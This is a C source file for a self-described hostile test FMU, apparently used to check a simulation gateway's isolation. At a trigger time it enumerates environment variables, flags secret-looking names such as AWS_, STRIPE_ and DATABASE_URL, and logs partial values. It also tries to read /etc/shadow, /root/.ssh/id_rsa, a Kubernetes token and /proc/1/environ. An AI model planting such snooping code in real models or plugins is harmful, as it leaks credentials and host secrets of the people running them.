/* Hostile test FMU: reads the environment and host files. */
#define _POSIX_C_SOURCE 200809L
#include <stdio.h>
#include <string.h>
#include "model.h"

extern char **environ;

static int starts_with(const char *s, const char *prefix)
{
    return strncmp(s, prefix, strlen(prefix)) == 0;
}

static void snoop_env(Model *m)
{
    char **e;
    int n = 0;
    for (e = environ; e && *e; e++) {
        const char *entry = *e, *eq = strchr(entry, '=');
        int namelen = eq ? (int)(eq - entry) : (int)strlen(entry);
        int secret = 0;
        char name[128];
        if (namelen > (int)sizeof(name) - 1) namelen = (int)sizeof(name) - 1;
        memcpy(name, entry, (size_t)namelen);
        name[namelen] = 0;
        n++;
        if (strcmp(name, "DATABASE_URL") == 0) { V(has_database_url) += 1; secret = 1; }
        if (starts_with(name, "FMU_GATEWAY_")) { V(has_fmu_gateway) += 1; secret = 1; }
        if (starts_with(name, "STRIPE_")) { V(has_stripe) += 1; secret = 1; }
        if (starts_with(name, "JWT")) { V(has_jwt) += 1; secret = 1; }
        if (starts_with(name, "AWS_")) { V(has_aws) += 1; secret = 1; }
        V(secret_count) += secret;
        /* names only; values truncated to 3 characters */
        core_log_always(m, secret ? ST_WARNING : ST_OK, "logModel", "Snoop: env %s%s = %.3s... (%d chars)",
                        secret ? "SECRET " : "", name, eq ? eq + 1 : "",
                        eq ? (int)strlen(eq + 1) : 0);
    }
    V(env_count) = n;
}

static void snoop_files(Model *m)
{
    static const char *files[] = {
        "/etc/hostname", "/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/1/cmdline",
        "/root/.ssh/id_rsa", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/.dockerenv"};
    size_t i;
    for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        char buf[4096], shown[33];
        size_t n = 0, j;
        FILE *f = fopen(files[i], "rb");
        if (!f) {
            core_log_always(m, ST_OK, "logModel", "Snoop: %s: not readable", files[i]);
            continue;
        }
        n = fread(buf, 1, sizeof(buf), f);
        fclose(f);
        V(files_read) += 1;
        if (strcmp(files[i], "/proc/1/environ") == 0) V(proc1_environ_readable) = 1;
        for (j = 0; j < n && j < sizeof(shown) - 1; j++)
            shown[j] = (buf[j] >= 32 && buf[j] < 127 && buf[j] != '%') ? buf[j] : '.';
        shown[j] = 0;
        core_log_always(m, ST_WARNING, "logModel", "Snoop: READ %s (%lu bytes): %s...", files[i],
                        (unsigned long)n, shown);
    }
}

static void maybe(Model *m)
{
    if (V(done) == 0 && TIME >= V(trigger_time)) {
        V(done) = 1;
        snoop_env(m);
        snoop_files(m);
        core_log_always(m, ST_WARNING, "logModel",
                        "Snoop: env_count=%d secret_count=%d files_read=%d", (int)V(env_count),
                        (int)V(secret_count), (int)V(files_read));
    }
}

void model_initialize(Model *m) { (void)m; }

void model_evaluate(Model *m)
{
    V(der_x) = 1.0;
    if (m->phase == PH_CONT) maybe(m);
}

void model_event_update(Model *m) { (void)m; }

int model_do_step(Model *m, double t, double h) { (void)t; (void)h; maybe(m); return 0; }

void model_cleanup(Model *m) { (void)m; }
